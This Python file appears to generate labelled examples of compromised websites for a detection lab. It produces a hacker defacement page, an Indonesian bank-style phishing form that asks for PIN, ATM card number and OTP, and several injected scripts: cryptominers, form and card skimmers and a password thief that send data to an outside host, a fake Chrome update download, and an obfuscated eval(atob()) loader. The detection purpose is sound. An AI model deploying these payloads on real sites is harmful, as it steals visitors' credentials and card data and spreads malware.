"""Sites that strangers changed without gambling: defaced, phishing, with a malicious script."""

import base64
from html import escape
from typing import ClassVar, Literal

from ronda.lab import classes
from ronda.lab.causes import markup
from ronda.lab.causes.base import Cause, Consequence
from ronda.lab.causes.gambling import REPLACED
from ronda.lab.draft import Draft
from ronda.lab.format import Host, SitePath


class Defacement(Cause, frozen=True, kw_only=True, tag="defacement"):
    """The front page boasts of the attack in the attacker's name."""

    by: str = "Bayangan Crew"
    message: str = "Your security is low, admin. We were here."
    on_shared_host: ClassVar[bool] = True
    front_page: ClassVar[str] = "replaces"

    def plant(self, draft: Draft) -> None:
        """Replace the front page."""
        by, message = escape(self.by), escape(self.message)
        draft.replace_front(
            f"<!doctype html><html><head><title>Hacked by {by}</title>"
            "<style>body{background:#000;color:#0f0;font-family:monospace;text-align:center}"
            f"</style></head><body><br><br><h1>HACKED BY {by}</h1><p>{message}</p>"
            f"<p>[ {escape(draft.host)} ] has been owned.</p><p>Greetz: all members of {by}</p>"
            "</body></html>"
        )

    def consequence(self) -> Consequence:
        """A defaced site; its own content cannot be seen."""
        return Consequence(expects=frozenset({classes.DEFACED}), hides=REPLACED)


def phishing(brand: str) -> str:
    """A page that asks for somebody's secrets in a brand's name."""
    name = escape(brand)
    fields = "".join(
        f'<p><label>{label}<br><input name="{field}" type="{kind}" required></label></p>'
        for label, field, kind in (
            ("Nomor HP", "hp", "tel"),
            ("PIN 6 angka", "pin", "password"),
            ("Nomor kartu ATM", "kartu", "text"),
            ("Kode OTP", "otp", "password"),
        )
    )
    return (
        f'<!doctype html><html lang="id"><head><title>{name} - Verifikasi Akun</title>'
        "<style>body{font-family:Arial;max-width:22em;margin:2em auto}input{width:100%}</style>"
        f"</head><body><h1>{name}</h1><p>Akun {name} Anda akan diblokir dalam 24 jam. Masukkan "
        "data Anda untuk verifikasi dan klaim saldo bantuan Rp600.000.</p>"
        f'<form method="post" action="proses.php">{fields}<button>Verifikasi sekarang</button>'
        f"</form><p>&copy; {name}. Terdaftar dan diawasi.</p></body></html>"
    )


class PhishingPage(Cause, frozen=True, kw_only=True, tag="phishing_page"):
    """A page below the site's address asks for PIN and OTP in a brand's name."""

    brand: str
    path: SitePath = "/verifikasi/akun/"
    linked: bool = True  # the front page leads there
    on_shared_host: ClassVar[bool] = True

    def on_front_page(self) -> str:
        """Only the link changes it."""
        return "edits" if self.linked else ""

    def plant(self, draft: Draft) -> None:
        """Serve the page, and the link to it."""
        body = phishing(self.brand)
        draft.answer(self.path, lambda: draft.page(body))
        if self.linked:
            text = f"Verifikasi {escape(self.brand)}"
            link = f'<p><a href="{draft.below(self.path)}">{text}</a></p>'
            draft.edit(lambda html: markup.before_footer(html, link))

    def consequence(self) -> Consequence:
        """Phishing; left open when nothing on the site leads to the page."""
        found = frozenset({classes.PHISHING})
        return Consequence(expects=found) if self.linked else Consequence(allows=found)


class PhishingFront(Cause, frozen=True, kw_only=True, tag="phishing_front"):
    """The front page itself asks for PIN and OTP in a brand's name."""

    brand: str
    on_shared_host: ClassVar[bool] = True
    front_page: ClassVar[str] = "replaces"

    def plant(self, draft: Draft) -> None:
        """Replace the front page."""
        draft.replace_front(phishing(self.brand))

    def consequence(self) -> Consequence:
        """Phishing; the site's own content cannot be seen."""
        return Consequence(expects=frozenset({classes.PHISHING}), hides=REPLACED)


class MaliciousScript(Cause, frozen=True, kw_only=True, tag="malicious_script"):
    """A stranger's script in the page: a miner, a thief of what is typed, a loader, a false update."""

    what: Literal[
        "miner",
        "skimmer",
        "fake_update",
        "pool_miner",
        "packed_skimmer",
        "password_thief",
        "loader",
    ] = "miner"
    host: Host = "statik-pustaka.net"
    on_shared_host: ClassVar[bool] = True
    front_page: ClassVar[str] = "edits"

    def plant(self, draft: Draft) -> None:
        """Put it at the end of the page for everybody."""
        draft.allow_scripts()
        block = getattr(self, f"_{self.what}")()
        draft.edit(lambda html: markup.at_end(html, block))

    def _miner(self) -> str:
        return (
            f'<script src="https://{self.host}/lib/coinhive.min.js"></script><script>'
            "var miner=new CoinHive.Anonymous('a9F3kq77LmXz',{throttle:0.2,forceASMJS:false});"
            "miner.start();</script>"
        )

    def _skimmer(self) -> str:
        return (
            "<script>document.addEventListener('submit',function(e){var d={};"
            "e.target.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
            f"(new Image()).src='https://{self.host}/px.gif?d='+btoa(JSON.stringify(d))"
            "+'&u='+encodeURIComponent(location.href);},true);</script>"
        )

    def _fake_update(self) -> str:
        return (
            '<div style="position:fixed;inset:0;background:#fff;z-index:99999;text-align:center">'
            "<h2>Peramban Anda usang</h2><p>Pasang pembaruan Chrome untuk melanjutkan.</p>"
            f'<a href="https://{self.host}/unduh/ChromeUpdate.exe" download>Perbarui Chrome</a>'
            "</div><script>setTimeout(function(){location.href='https://"
            f"{self.host}/unduh/ChromeUpdate.exe'}},8000)</script>"
        )

    def _pool_miner(self) -> str:
        return (
            f"<script>var w=new Worker('/js/k.js'),s=new WebSocket('wss://pool.{self.host}:8443/');"
            "s.onmessage=function(e){w.postMessage(JSON.parse(e.data))};w.onmessage=function(e){"
            "s.send(JSON.stringify({method:'submit',params:{job_id:e.data.j,nonce:e.data.n}}))}"
            "</script>"
        )

    def _packed_skimmer(self) -> str:
        target = base64.b64encode(f"https://{self.host}/g?d=".encode()).decode()
        return (
            "<script>document.addEventListener('change',function(e){if(/card_number|cvv|kartu/"
            f".test(e.target.name))fetch(atob('{target}')+e.target.value,{{mode:'no-cors'}})}},true)"
            "</script>"
        )

    def _password_thief(self) -> str:
        return (
            "<script>setInterval(function(){var p=document.querySelector('input[type=password]');"
            "if(p&&p.value&&p.value!==window._p){window._p=p.value;navigator.sendBeacon("
            f"'https://{self.host}/k',p.value)}}}},700)</script>"
        )

    def _loader(self) -> str:
        code = (
            "var s=document.createElement('script');"
            f"s.src='https://{self.host}/l.js';document.head.appendChild(s)"
        )
        return f"<script>eval(atob('{base64.b64encode(code.encode()).decode()}'))</script>"

    def consequence(self) -> Consequence:
        """A malicious script."""
        return Consequence(expects=frozenset({classes.MALICIOUS_SCRIPT}))
